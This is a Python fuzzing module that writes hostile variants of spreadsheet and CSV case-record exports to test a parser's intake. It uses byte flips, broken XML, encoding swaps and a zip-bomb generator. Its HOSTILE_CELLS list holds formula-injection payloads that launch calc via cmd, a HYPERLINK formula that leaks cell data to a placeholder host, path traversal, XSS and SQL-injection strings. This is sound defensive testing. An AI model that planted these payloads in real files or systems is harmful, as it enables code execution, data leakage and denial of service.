"""Hostile variants of real exports for the intake fuzz harness (drills/fuzz_intake.py).

``seeds(folder)`` writes the real exports the mutations start from (the intake tests' messy workbook, a plain
one, the CSV twins, the committed .xls); ``mutate(rng, seed, out)`` writes one hostile variant and returns the
mutation's name. Everything is derived from ``rng``, so a seed reproduces the corpus exactly.
"""

from __future__ import annotations

import io
import random
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.core.intake_fixtures import (  # noqa: E402
    case_row,
    fixture_path,
    write_csv_twins,
    write_messy_xlsx,
    write_simple_xlsx,
)

HOSTILE_CELLS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "张三\x00盗窃案",
    "\x07\x1b[31m红色\x1b[0m",
    "案\u202e名",
    "\ufffe\uffff",
    "A" * 100_000,
    "案" * 5_000,
    "2025-13-45",
    "２０２５年２月３０日",
    "1e309",
    "NaN",
    "-0",
    "../../etc/passwd",
    "C:\\Windows\\system32\\cmd.exe",
    "<script>alert(1)</script>",
    "'; DROP TABLE cases; --",
)


def seeds(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    messy = write_messy_xlsx(folder).path
    simple = write_simple_xlsx(folder / "simple.xlsx", [case_row(i) for i in range(1, 60)])
    utf8, gb = write_csv_twins(folder)
    xls = folder / "small_export.xls"
    shutil.copyfile(fixture_path("small_export.xls"), xls)
    return [messy, simple, utf8, gb, xls]


# --- byte-level --------------------------------------------------------------------------------------------


def _flip(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 24)):
        out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out)


def _truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data))]


def _splice(rng: random.Random, data: bytes) -> bytes:
    start = rng.randrange(len(data))
    return data[:start] + bytes(rng.randrange(256) for _ in range(rng.randint(1, 300))) + data[start:]


# --- zip-level (xlsx) --------------------------------------------------------------------------------------


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in members.items():
            z.writestr(name, body)
    return buf.getvalue()


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _hostile_strings(rng: random.Random, data: bytes) -> bytes:
    """Replace shared strings (cell texts and headers) by hostile ones."""
    members = _members(data)
    key = "xl/sharedStrings.xml"
    if key not in members:
        return _flip(rng, data)
    text = members[key].decode("utf-8", "replace")
    parts = text.split("<t")
    for i in range(1, len(parts)):
        if rng.random() < 0.15 and ">" in parts[i]:
            head, _, rest = parts[i].partition(">")
            body_end = rest.find("</t>")
            if body_end >= 0:
                cell = rng.choice(HOSTILE_CELLS)
                cell = "".join(c for c in cell if c in "\t\n\r" or ord(c) >= 32)  # XML 1.0 cannot hold the rest
                parts[i] = head + ">" + _xml_escape(cell) + rest[body_end:]
    members[key] = "<t".join(parts).encode("utf-8")
    return _zip(members)


def _headers(rng: random.Random, data: bytes) -> bytes:
    """Rename, duplicate or blank the known column headers."""
    members = _members(data)
    key = "xl/sharedStrings.xml"
    if key not in members:
        return _flip(rng, data)
    text = members[key].decode("utf-8")
    for header in ("办结日期", "案件名称", "受理日期", "案件类别", "承办检察官", "部门受案号", "涉案金额"):
        roll = rng.random()
        if roll < 0.2:
            text = text.replace(f">{header}<", f">{header[:2]}时间<", 1)
        elif roll < 0.35:
            text = text.replace(f">{header}<", ">部门受案号<", 1)
        elif roll < 0.45:
            text = text.replace(f">{header}<", "><", 1)
    members[key] = text.encode("utf-8")
    return _zip(members)


def _sheet_xml(rng: random.Random, data: bytes) -> bytes:
    """Break a worksheet's XML: forged dimensions, huge row/column numbers, cut tags, bad types."""
    members = _members(data)
    sheets = [n for n in members if n.startswith("xl/worksheets/sheet")]
    if not sheets:
        return _flip(rng, data)
    name = rng.choice(sheets)
    text = members[name].decode("utf-8", "replace")
    choice = rng.randrange(5)
    if choice == 0:
        text = text.replace("<dimension ref=", '<dimension ref="A1:XFD1048576" old=', 1)
    elif choice == 1:
        text = text.replace('r="A2"', 'r="XFD1048576"', 1).replace('r="2"', 'r="1048576"', 1)
    elif choice == 2:
        text = text[: rng.randrange(len(text))]
    elif choice == 3:
        text = text.replace('t="s"', 't="e"', rng.randint(1, 20))
    else:
        text = text.replace("<v>", "<v>99999999999999999999", rng.randint(1, 10))
    members[name] = text.encode("utf-8")
    return _zip(members)


def _bomb(rng: random.Random, data: bytes) -> bytes:
    """A sheet that inflates to tens of megabytes of rows (a zip bomb within reason)."""
    members = _members(data)
    sheets = [n for n in members if n.startswith("xl/worksheets/sheet")]
    if not sheets:
        return _flip(rng, data)
    rows = rng.choice((20_000, 100_000, 200_000))
    body = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>炸{r}</t></is></c></row>' for r in range(1, rows))
    members[sheets[0]] = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>'
    ).encode()
    return _zip(members)


def _empty_archive(rng: random.Random, data: bytes) -> bytes:
    return _zip({}) if rng.random() < 0.5 else _zip({"xl/workbook.xml": b""})


# --- text-level (csv) --------------------------------------------------------------------------------------


def _encoding(rng: random.Random, data: bytes) -> bytes:
    text = data.decode("utf-8-sig", "replace") if not data.startswith(b"\xff") else data.decode("gb18030", "replace")
    codec = rng.choice(("utf-16", "utf-16-be", "latin-1", "big5", "shift_jis", "utf-32"))
    return text.encode(codec, "replace")


def _csv_cells(rng: random.Random, data: bytes) -> bytes:
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        text = data.decode("gb18030", "replace")
    lines = text.splitlines()
    for i in range(1, len(lines)):
        cells = lines[i].split(",")
        if cells and rng.random() < 0.3:
            cells[rng.randrange(len(cells))] = '"' + rng.choice(HOSTILE_CELLS).replace('"', '""') + '"'
        lines[i] = ",".join(cells)
    if rng.random() < 0.3:
        lines.insert(1, lines[0])  # the header twice
    return "\n".join(lines).encode("utf-8")


Mutation = Callable[[random.Random, bytes], bytes]
ANY: dict[str, Mutation] = {"flip": _flip, "truncate": _truncate, "splice": _splice}
ZIPPED: dict[str, Mutation] = {
    "hostile_strings": _hostile_strings,
    "headers": _headers,
    "sheet_xml": _sheet_xml,
    "bomb": _bomb,
    "empty_archive": _empty_archive,
}
TEXT: dict[str, Mutation] = {"encoding": _encoding, "csv_cells": _csv_cells}


def mutate(rng: random.Random, seed: Path, out: Path) -> tuple[str, Path]:
    """Write one hostile variant of ``seed`` next to ``out`` (suffix chosen here); returns (mutation, file)."""
    data = seed.read_bytes()
    special = rng.random()
    target = out.with_suffix(".xlsx")
    if special < 0.01:
        shutil.copyfile(fixture_path("small_export.xls"), target)  # .xls renamed .xlsx
        return "xls_as_xlsx", target
    if special < 0.02:
        shutil.copyfile(fixture_path("encrypted.xlsx"), target)
        return "encrypted", target
    if special < 0.03:
        target.write_bytes(b"")
        return "empty_file", target
    table = dict(ANY)
    if seed.suffix == ".xlsx":
        table.update(ZIPPED)
        if rng.random() < 0.6:  # weigh the structured mutations: byte flips mostly hit the zip's CRC check
            table = dict(ZIPPED)
    elif seed.suffix == ".csv":
        table.update(TEXT)
    name = rng.choice(sorted(table))
    if name == "bomb" and rng.random() < 0.8:
        name = "hostile_strings"  # bombs are slow to build and to refuse: a few in every hundred inputs
    body = table[name](rng, data)
    if rng.random() < 0.2:
        body = _flip(rng, body) if body else body
        name += "+flip"
    target = out.with_suffix(seed.suffix)
    target.write_bytes(body)
    return name, target
